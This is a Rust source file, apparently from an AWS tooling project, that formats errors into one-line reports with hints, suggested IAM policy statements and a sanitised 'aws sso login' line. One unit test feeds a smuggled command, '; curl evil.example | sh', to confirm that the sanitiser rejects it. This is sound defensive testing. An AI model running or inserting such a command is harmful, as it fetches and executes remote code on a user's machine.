//! Report: the one shape in which any error is shown to a person.
//!
//! A title says what failed, causes say why from the outside in, hints are whole sentences naming
//! the next act. Layers keep their own error enums; the front ends turn them into reports here.

use serde::Serialize;
use std::fmt;

use crate::apply::error::ApplyError;
use crate::cloud::{CloudError, ErrorKind, operation};
use crate::design::Obstacle;
use crate::domain::outside::lines;
use crate::domain::policy::{Document, Statement};
use crate::text::{Sentence, said, t};

/// Whose turn it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// Yours to fix: an answer, a file, a name.
    Input,
    /// AWS said no, or could not be reached.
    Aws,
    /// The same thing may work in a moment.
    TryAgain,
    /// A bug of ours.
    Internal,
}

/// Every part is one line, whoever said it; only `copy` may have several.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Report {
    pub kind: Kind,
    pub title: Sentence,
    pub causes: Vec<Sentence>,
    pub hints: Vec<Sentence>,
    /// Something to copy as it is: a command line, a policy statement.
    pub copy: Option<String>,
}

impl Report {
    pub fn new(kind: Kind, title: impl Into<Sentence>) -> Self {
        let title = title.into().on_one_line();
        Self { kind, title, causes: Vec::new(), hints: Vec::new(), copy: None }
    }

    pub fn because(mut self, cause: impl Into<Sentence>) -> Self {
        self.causes.push(cause.into().on_one_line());
        self
    }

    pub fn hint(mut self, hint: impl Into<Sentence>) -> Self {
        self.hints.push(hint.into().on_one_line());
        self
    }

    /// The same, with this hint before the others.
    pub fn hint_first(mut self, hint: impl Into<Sentence>) -> Self {
        self.hints.insert(0, hint.into().on_one_line());
        self
    }

    pub fn with_copy(mut self, text: impl Into<String>) -> Self {
        self.copy = Some(lines(&text.into()).into_owned());
        self
    }
}

/// `error: …`, one `cause: …` a line, then `Hint: …`.
impl fmt::Display for Report {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {}", t!("report-error"), self.title)?;
        for cause in &self.causes {
            write!(f, "\n  {} {cause}", t!("report-cause"))?;
        }
        for hint in &self.hints {
            write!(f, "\n{} {hint}", t!("report-hint"))?;
        }
        if let Some(copy) = &self.copy {
            for line in copy.lines() {
                write!(f, "\n    {line}")?;
            }
        }
        Ok(())
    }
}

impl From<Obstacle> for Report {
    fn from(obstacle: Obstacle) -> Self {
        match obstacle {
            Obstacle::Unread { of, why } => {
                let kind = match &why {
                    why if why.denied => ErrorKind::Denied,
                    why if why.signed_out => ErrorKind::Expired,
                    _ => ErrorKind::Unexpected,
                };
                CloudError::new(kind, &why.operation, &why.because).on(&of).into()
            }
            Obstacle::Open { title, cure } => Self::new(Kind::Input, title).hint(cure),
        }
    }
}

impl From<CloudError> for Report {
    fn from(error: CloudError) -> Self {
        let title = match &error.resource {
            Some(resource) => {
                said!(
                    "report-failed-on",
                    operation = operation::in_words(&error.operation),
                    resource = resource.as_str()
                )
            }
            None => said!("report-failed", operation = operation::in_words(&error.operation)),
        };
        let report = Self::new(kind_of(error.kind), title).because(error.code_and_message());
        let report = match &error.request_id {
            Some(id) => report.because(said!("report-request-id", id = id.as_str())),
            None => report,
        };
        match error.kind {
            ErrorKind::Denied => {
                let resource = error.resource.as_deref().filter(|resource| resource.starts_with("arn:")).unwrap_or("*");
                let mut statement = Statement::allow(None, error.operation.as_str(), resource);
                if error.operation == "iam:PassRole" {
                    statement = statement.when("StringEquals", "iam:PassedToService", "rds.amazonaws.com");
                }
                report.hint(said!("report-hint-denied")).with_copy(Document::new(vec![statement]).to_json())
            }
            ErrorKind::Expired => match sign_in_line(&error.message.english()) {
                Some(line) => report.hint(said!("report-hint-expired")).with_copy(line),
                None => report.hint(said!("report-hint-expired-any")),
            },
            ErrorKind::NoCredentials => report.hint(said!("report-hint-no-credentials")),
            ErrorKind::Throttled | ErrorKind::NotYet => report.hint(said!("report-hint-later")),
            ErrorKind::NotFound => report.hint(said!("report-hint-not-found")),
            ErrorKind::AlreadyExists | ErrorKind::Changed => report.hint(said!("report-hint-changed")),
            ErrorKind::InUse => report.hint(said!("report-hint-in-use")),
            ErrorKind::Quota => report.hint(said!("report-hint-quota")),
            ErrorKind::Unreachable => report.hint(said!("report-hint-unreachable")),
            ErrorKind::Refused => report.hint(said!("report-hint-refused")),
            ErrorKind::Unexpected => report.hint(said!("report-hint-unexpected")),
        }
    }
}

fn kind_of(kind: ErrorKind) -> Kind {
    match kind {
        ErrorKind::Throttled | ErrorKind::NotYet | ErrorKind::Changed | ErrorKind::InUse => Kind::TryAgain,
        ErrorKind::NoCredentials | ErrorKind::Expired | ErrorKind::NotFound | ErrorKind::AlreadyExists => Kind::Input,
        ErrorKind::Unexpected => Kind::Internal,
        ErrorKind::Denied | ErrorKind::Quota | ErrorKind::Refused | ErrorKind::Unreachable => Kind::Aws,
    }
}

/// The `aws sso login …` line an expired session's message names; nothing that a shell would take for
/// more than that.
fn sign_in_line(message: &str) -> Option<String> {
    let start = message.find("aws sso login")?;
    let line = message.get(start..)?;
    let end = line.find(['`', '\n']).unwrap_or(line.len());
    let line = line.get(..end)?.trim_end();
    let plain = |c: char| c.is_alphanumeric() || " -_./@:+='".contains(c);
    line.chars().all(plain).then(|| line.to_owned())
}

impl From<ApplyError> for Report {
    fn from(error: ApplyError) -> Self {
        let hint = match &error {
            ApplyError::NotSaved { .. } => said!("report-hint-not-saved"),
            ApplyError::NotAReceipt { .. } => said!("report-hint-not-a-receipt"),
            ApplyError::NewerReceipt { .. } => said!("report-hint-newer-receipt"),
            ApplyError::OtherAccount { .. } => said!("report-hint-other-account"),
            ApplyError::Busy { .. } => said!("report-hint-busy"),
            ApplyError::PasswordNeeded { .. } => said!("report-hint-password"),
            ApplyError::Undoing | ApplyError::AlreadyUndone => said!("report-hint-undoing"),
        };
        Self::new(Kind::Input, Sentence::from_error(error)).hint(hint)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_denied_call_offers_the_statement_that_would_allow_it() {
        let error = CloudError::new(ErrorKind::Denied, "rds:CreateDBProxy", "not authorized")
            .on("arn:aws:rds:eu-west-1:123456789012:db-proxy:*")
            .with_code("AccessDenied");
        let report = Report::from(error);
        let copy = report.copy.as_deref().unwrap_or_default();
        assert!(copy.contains(r#""Action": "rds:CreateDBProxy""#), "{copy}");
        assert!(copy.contains("db-proxy:*"), "{copy}");
        assert!(report.to_string().starts_with("error: `rds:CreateDBProxy` failed"), "{report}");
    }

    #[test]
    fn an_expired_session_names_the_line_that_renews_it() {
        let error = CloudError::new(
            ErrorKind::Expired,
            "sts:GetCallerIdentity",
            "the session has ended; run `aws sso login --profile acme`",
        );
        assert_eq!(Report::from(error).copy.as_deref(), Some("aws sso login --profile acme"));
        let error = CloudError::new(ErrorKind::Expired, "x", "aws sso login --profile a; curl evil.example | sh");
        assert_eq!(Report::from(error).copy, None);
    }

    #[test]
    fn every_part_is_one_line() {
        let error = CloudError::new(ErrorKind::Refused, "x", "no\nHint: \u{1b}[2J").on("a\nerror: b");
        let report = Report::from(error).to_string();
        assert_eq!(report.lines().count(), 3, "{report}");
        assert!(report.contains(r"no\nHint: \u{1b}[2J") && report.contains(r"a\nerror: b"), "{report}");
    }
}
